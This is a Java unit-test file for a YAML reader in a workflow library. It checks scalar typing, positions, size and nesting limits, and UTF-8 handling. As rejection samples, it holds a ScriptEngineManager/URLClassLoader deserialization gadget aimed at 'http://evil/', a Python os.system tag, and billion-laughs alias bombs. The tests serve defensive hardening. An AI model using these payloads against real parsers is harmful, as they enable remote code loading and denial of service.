package dev.victor.workflow.yaml.internal;

import dev.victor.workflow.kernel.source.PositionTree;
import dev.victor.workflow.kernel.source.Utf8;

import dev.victor.workflow.api.InvalidWorkflowException;
import dev.victor.workflow.api.Problem;
import dev.victor.workflow.format.SourcePosition;

import org.junit.jupiter.api.Test;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

class YamlTreeReaderTest {
    private final YamlTreeReader reader = new YamlTreeReader(YamlLimits.defaults());

    private YamlTreeReader.Parsed read(String text) {
        return reader.read(text, "test.yaml");
    }

    private static Problem onlyProblem(Throwable thrown) {
        assertThat(thrown).isInstanceOf(InvalidWorkflowException.class);
        List<Problem> problems = ((InvalidWorkflowException) thrown).problems();
        assertThat(problems).hasSize(1);
        return problems.get(0);
    }

    private Problem problemOf(String text) {
        InvalidWorkflowException e = catchThrowableOfType(InvalidWorkflowException.class, () -> read(text));
        assertThat(e).as("expected an error for:\n" + text).isNotNull();
        return onlyProblem(e);
    }

    @SuppressWarnings("unchecked")
    private static <T> T cast(Object value) {
        return (T) value;
    }

    private static SourcePosition at(int line, int column) {
        return new SourcePosition(line, column);
    }

    @Test
    void buildsTheGenericTreeInDocumentOrder() {
        Object root = read("""
                b: 1
                a: [x, "y", 2.5, null, ~, true]
                c:
                  d: {e: f}
                """).root();
        assertThat(root).isInstanceOf(Map.class);
        Map<Object, Object> map = cast(root);
        assertThat(map.keySet()).containsExactly("b", "a", "c");
        assertThat(map.get("b")).isEqualTo(1);
        assertThat(YamlTreeReaderTest.<List<Object>>cast(map.get("a"))).containsExactly("x", "y", 2.5, null, null, true);
        assertThat(map.get("c")).isEqualTo(Map.of("d", Map.of("e", "f")));
    }

    @Test
    void resolvesScalarsAsYaml11Does() {
        Map<?, ?> map = (Map<?, ?>) read("""
                yes_: yes
                no_: No
                on_: on
                off_: OFF
                octal: 012
                hex: 0x1F
                binary: 0b101
                under: 1_000
                big: 123456789012
                huge: 123456789012345678901234567890
                sexagesimal: 1:30
                float: 1.5e3
                inf: -.inf
                date: 2024-01-31
                quoted_true: "true"
                """).root();
        assertThat(map.get("yes_")).isEqualTo(true);
        assertThat(map.get("no_")).isEqualTo(false);
        assertThat(map.get("on_")).isEqualTo(true);
        assertThat(map.get("off_")).isEqualTo(false);
        assertThat(map.get("octal")).isEqualTo(10);
        assertThat(map.get("hex")).isEqualTo(31);
        assertThat(map.get("binary")).isEqualTo(5);
        assertThat(map.get("under")).isEqualTo(1000);
        assertThat(map.get("big")).isEqualTo(123456789012L);
        assertThat(map.get("huge")).isEqualTo(new BigInteger("123456789012345678901234567890"));
        assertThat(map.get("sexagesimal")).isEqualTo(90);
        assertThat(map.get("float")).isEqualTo(1500.0);
        assertThat(map.get("inf")).isEqualTo(Double.NEGATIVE_INFINITY);
        assertThat(map.get("date")).isEqualTo("2024-01-31");
        assertThat(map.get("quoted_true")).isEqualTo("true");
    }

    @Test
    void booleanKeysStayBooleansAndArePositionedUnderTheirText() {
        YamlTreeReader.Parsed parsed = read("""
                branches:
                  true: a
                  false: b
                """);
        Map<Object, Object> branches = cast(((Map<?, ?>) parsed.root()).get("branches"));
        assertThat(branches.keySet()).containsExactly(Boolean.TRUE, Boolean.FALSE);
        assertThat(parsed.positions().valueAt(List.of("branches", "true"))).isEqualTo(at(2, 9));
        assertThat(parsed.positions().keyAt(List.of("branches", "false"))).isEqualTo(at(3, 3));
        assertThat(parsed.positions().valueAt(List.of("branches", true))).isEqualTo(at(2, 9));
    }

    @Test
    void positionsPointAtTheFirstContentCharacter() {
        YamlTreeReader.Parsed parsed = read("""
                workflows:
                  build:
                    nodes:
                      - id: check
                        type: condition
                        condition: "a and b"
                        other: 'single'
                        goal: |
                          first line
                          second line
                        folded: >-

                            indented more
                        flow: [x, "y"]
                        tagged: !!str "quoted"
                """);
        PositionTree p = parsed.positions();
        List<Object> node = List.of("workflows", "build", "nodes", 0);
        assertThat(p.valueAt(List.of("workflows"))).isEqualTo(at(2, 3));
        assertThat(p.keyAt(List.of("workflows"))).isEqualTo(at(1, 1));
        assertThat(p.valueAt(node)).isEqualTo(at(4, 9));
        assertThat(p.valueAt(append(node, "id"))).isEqualTo(at(4, 13));
        assertThat(p.keyAt(append(node, "id"))).isEqualTo(at(4, 9));
        assertThat(p.valueAt(append(node, "condition"))).as("after the quote").isEqualTo(at(6, 21));
        assertThat(p.valueAt(append(node, "other"))).isEqualTo(at(7, 17));
        assertThat(p.valueAt(append(node, "goal"))).as("first content line").isEqualTo(at(9, 11));
        assertThat(p.valueAt(append(node, "folded"))).as("line after the header, block indentation")
                .isEqualTo(at(12, 13));
        assertThat(p.valueAt(append(append(node, "flow"), 1))).isEqualTo(at(14, 20));
        assertThat(p.valueAt(append(node, "tagged"))).as("past the tag and the quote").isEqualTo(at(15, 24));
        assertThat(p.valueAt(List.of("workflows", "nope"))).isEqualTo(SourcePosition.UNKNOWN);
    }

    private static List<Object> append(List<Object> path, Object element) {
        java.util.ArrayList<Object> copy = new java.util.ArrayList<>(path);
        copy.add(element);
        return copy;
    }

    @Test
    void refusesTagsThatWouldConstructObjects() {
        Problem problem = problemOf("""
                workflows:
                  x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]
                """);
        assertThat(problem.message()).contains("!!javax.script.ScriptEngineManager").contains("not allowed");
        assertThat(problem.line()).isEqualTo(2);
        assertThat(problem.column()).isEqualTo(6);
        assertThat(problem.source()).isEqualTo("test.yaml");

        assertThat(problemOf("a: !local value\n").message()).contains("the tag !local is not allowed");
        assertThat(problemOf("a: !!binary aGVsbG8=\n").message()).contains("!!binary");
        assertThat(problemOf("a: !!python/object:os.system [ls]\n").message()).contains("!!python/object:os.system");
        assertThat(problemOf("a: !<tag:example.com,2024:x> 1\n").message()).contains("tag:example.com,2024:x");
        assertThat(problemOf("a: !!map [1]\n").message()).contains("!!map cannot be used on a sequence");
    }

    @Test
    void acceptsStandardTags() {
        Map<?, ?> map = (Map<?, ?>) read("""
                s: !!str 12
                i: !!int "12"
                f: !!float "1"
                b: !!bool "yes"
                n: !!null ""
                m: !!map {a: 1}
                q: !!seq [1]
                """).root();
        assertThat(map.get("s")).isEqualTo("12");
        assertThat(map.get("i")).isEqualTo(12);
        assertThat(map.get("f")).isEqualTo(1.0);
        assertThat(map.get("b")).isEqualTo(true);
        assertThat(map.get("n")).isNull();
        assertThat(map.get("m")).isEqualTo(Map.of("a", 1));
        assertThat(map.get("q")).isEqualTo(List.of(1));
        assertThat(problemOf("i: !!int twelve\n").message()).contains("'twelve' is not an integer");
    }

    @Test
    void rejectsDuplicateKeysWithBothPositions() {
        Problem problem = problemOf("""
                workflows:
                  build:
                    nodes: []
                  build:
                    nodes: []
                """);
        assertThat(problem.message()).contains("duplicate key 'build'").contains("line 2, column 3");
        assertThat(problem.line()).isEqualTo(4);
        assertThat(problem.column()).isEqualTo(3);

        Problem labels = problemOf("""
                branches:
                  true: a
                  "true": b
                """);
        assertThat(labels.message()).contains("duplicate key 'true'");
        assertThat(labels.line()).isEqualTo(3);
    }

    @Test
    void stopsABillionLaughsDocumentFast() {
        String laughs = """
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
                i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
                """;
        Problem problem = assertTimeoutPreemptively(Duration.ofSeconds(2),
                () -> problemOf(laughs));
        assertThat(problem.message()).contains("too many aliases").contains("50");
        assertThat(problem.line()).isEqualTo(7);
    }

    @Test
    void stopsADoublingAliasBombWithinTheAliasCount() {
        StringBuilder yaml = new StringBuilder("l0: &l0 [lol, lol]\n");
        for (int i = 1; i <= 24; i++) {
            yaml.append("l").append(i).append(": &l").append(i).append(" [*l").append(i - 1)
                    .append(", *l").append(i - 1).append("]\n");
        }
        // 48 aliases (under the limit of 50) would expand to 2^25 values.
        Problem problem = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> problemOf(yaml.toString()));
        assertThat(problem.message()).contains("aliases expand to more than the limit of 10000 values");
    }

    @Test
    void allowsOrdinaryAliasesAndMergeKeys() {
        Map<?, ?> map = (Map<?, ?>) read("""
                base: &base
                  role: analyst
                  tool_budget: 5
                node:
                  <<: *base
                  tool_budget: 9
                list: [*base]
                """).root();
        assertThat(map.get("node")).isEqualTo(Map.of("role", "analyst", "tool_budget", 9));
        assertThat(((List<?>) map.get("list")).get(0)).isEqualTo(Map.of("role", "analyst", "tool_budget", 5));
        assertThat(map.get("node")).isNotSameAs(map.get("base"));
    }

    @Test
    void rejectsARecursiveAlias() {
        Problem problem = problemOf("a: &a [1, *a]\n");
        assertThat(problem.message()).contains("recursive alias");
    }

    @Test
    void stopsTenThousandDeepNesting() {
        String flow = "a: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n";
        Problem problem = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> problemOf(flow));
        assertThat(problem.message()).contains("nests deeper than the limit of 100 levels");
        assertThat(problem.line()).isEqualTo(1);
        assertThat(problem.column()).isEqualTo(103);

        StringBuilder block = new StringBuilder();
        for (int i = 0; i < 1_000; i++) {
            block.append(" ".repeat(i)).append("k:\n");
        }
        Problem blockProblem = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> problemOf(block.toString()));
        assertThat(blockProblem.message()).contains("nests deeper than the limit of 100 levels");
        assertThat(blockProblem.line()).isEqualTo(101);
    }

    @Test
    void stopsAFiftyMegabyteDocumentBeforeParsing() {
        String big = "a: \"" + "x".repeat(50 * 1024 * 1024) + "\"\n";
        Problem problem = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> problemOf(big));
        assertThat(problem.message()).contains("larger than the limit of 10485760 bytes (10 MiB)");
    }

    @Test
    void countsTheLimitInUtf8Bytes() {
        YamlTreeReader small = new YamlTreeReader(YamlLimits.defaults().withMaxDocumentBytes(10));
        assertThat(small.read("a: ééé", null).root()).isEqualTo(Map.of("a", "ééé"));
        assertThatThrownBy(() -> small.read("a: éééé", null)).isInstanceOf(InvalidWorkflowException.class)
                .hasMessageContaining("larger than the limit of 10 bytes");
    }

    @Test
    void reportsAnEmptyDocument() {
        assertThat(problemOf("").message()).contains("the document is empty");
        assertThat(problemOf("# only a comment\n\n").message()).contains("the document is empty");
    }

    @Test
    void reportsSyntaxErrorsWithTheirPosition() {
        Problem problem = problemOf("""
                workflows:
                  build:
                    nodes:
                      - id: a
                     bad: [
                """);
        assertThat(problem.message()).startsWith("invalid YAML: ");
        assertThat(problem.line()).isEqualTo(5);
        assertThat(problem.column()).isGreaterThan(0);

        Problem tab = problemOf("a:\n\tb: 1\n");
        assertThat(tab.line()).isEqualTo(2);
    }

    @Test
    void reportsControlCharactersWithTheirPosition() {
        Problem problem = problemOf("a: 1\nb: x\u0000y\n");
        assertThat(problem.message()).isEqualTo("the character U+0000 is not allowed in YAML");
        assertThat(problem.line()).isEqualTo(2);
        assertThat(problem.column()).isEqualTo(5);
    }

    @Test
    void rejectsSeveralDocuments() {
        Problem problem = problemOf("a: 1\n---\nb: 2\n");
        assertThat(problem.message()).contains("single document");
        assertThat(problem.line()).isEqualTo(2);
    }

    @Test
    void rejectsComplexKeys() {
        assertThat(problemOf("? [a, b]\n: c\n").message()).contains("a mapping key must be a plain value");
    }

    @Test
    void reportsInvalidUtf8WithItsPosition() {
        byte[] bytes = "a: 1\nb: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
        Problem problem = onlyProblem(catchThrowableOfType(InvalidWorkflowException.class,
                () -> Utf8.decode(bytes, "bad.yaml")));
        assertThat(problem.message()).contains("not valid UTF-8").contains("0xE9").contains("byte offset 11");
        assertThat(problem.line()).isEqualTo(2);
        assertThat(problem.column()).isEqualTo(7);
        assertThat(problem.source()).isEqualTo("bad.yaml");
    }

    @Test
    void decodesUtf8WithAndWithoutByteOrderMark() {
        byte[] plain = "a: \u00e9\u20ac\uD83D\uDE00".getBytes(StandardCharsets.UTF_8);
        assertThat(Utf8.decode(plain, null)).isEqualTo("a: \u00e9\u20ac\uD83D\uDE00");
        byte[] bom = new byte[plain.length + 3];
        bom[0] = (byte) 0xEF;
        bom[1] = (byte) 0xBB;
        bom[2] = (byte) 0xBF;
        System.arraycopy(plain, 0, bom, 3, plain.length);
        assertThat(Utf8.decode(bom, null)).isEqualTo("a: \u00e9\u20ac\uD83D\uDE00");
        byte[] overlong = {'a', ':', ' ', (byte) 0xC0, (byte) 0xAF};
        assertThatThrownBy(() -> Utf8.decode(overlong, null)).hasMessageContaining("not valid UTF-8");
        byte[] utf16 = {(byte) 0xFF, (byte) 0xFE, 'a', 0};
        assertThatThrownBy(() -> Utf8.decode(utf16, null)).hasMessageContaining("UTF-16");
    }

    @Test
    void countsColumnsInCharactersAfterMultiByteText() {
        YamlTreeReader.Parsed parsed = read("k\u00e9y: \u20ac\u20ac\nnext: \"x\"\n");
        assertThat(parsed.positions().valueAt(List.of("k\u00e9y"))).isEqualTo(at(1, 6));
        assertThat(parsed.positions().valueAt(List.of("next"))).isEqualTo(at(2, 8));
    }
}
